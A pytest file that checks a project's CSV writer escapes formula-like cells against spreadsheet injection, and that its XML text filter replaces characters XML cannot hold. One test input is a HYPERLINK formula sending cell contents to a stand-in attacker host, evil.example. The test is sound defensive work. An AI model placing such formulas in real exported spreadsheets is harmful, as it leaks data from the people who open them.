"""The shared CSV writer and XML text filter: what a spreadsheet or a feed reader gets."""
import csv
import io
import xml.etree.ElementTree as ET

import pytest

from civic.core.formats import csv_response, csv_text, safe_cell, xml_text


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3",
                                   "@SUM(A1)", "\tcmd", "\rcmd", "=", "-"])
def test_a_formula_like_cell_becomes_text(value):
    assert safe_cell(value) == "'" + value
    [header, row] = list(csv.reader(io.StringIO(csv_text(["a"], [[value]]))))
    assert row == ["'" + value]


@pytest.mark.parametrize("value, expected", [(None, ""), ("plain", "plain"), ("a=b", "a=b"), (" =x", " =x"),
                                             (-0.1276, -0.1276), (-3, -3), (True, True), ("", "")])
def test_ordinary_values_are_unchanged(value, expected):
    assert safe_cell(value) == expected


def test_the_header_is_neutralised_too_and_rows_round_trip():
    text = csv_text(["=name", "count"], [["O'Brien, \"the\" =x", 3], ["-cmd", -4]])
    assert list(csv.reader(io.StringIO(text))) == [["'=name", "count"], ["O'Brien, \"the\" =x", "3"],
                                                  ["'-cmd", "-4"]]


def test_the_response_is_a_csv_download(app):
    with app.test_request_context():
        response = csv_response(["a"], [["@x"]], "things.csv")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="things.csv"'
    assert response.get_data(as_text=True).splitlines() == ["a", "'@x"]


def test_xml_text_keeps_what_xml_can_carry_and_replaces_the_rest():
    kept = "tab\t newline\n cr\r é ✓ 𝄞 \ufffd"
    assert xml_text(kept) == kept
    assert xml_text("a\x00b\x01c\x0bd\x0ce\x1ff\ud800g\ufffeh\uffffi") == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh\ufffdi"
    element = ET.Element("x")
    element.text = xml_text("bad\x01\x0b\ufffe")
    assert ET.fromstring(ET.tostring(element, encoding="utf-8")).text == "bad\ufffd\ufffd\ufffd"
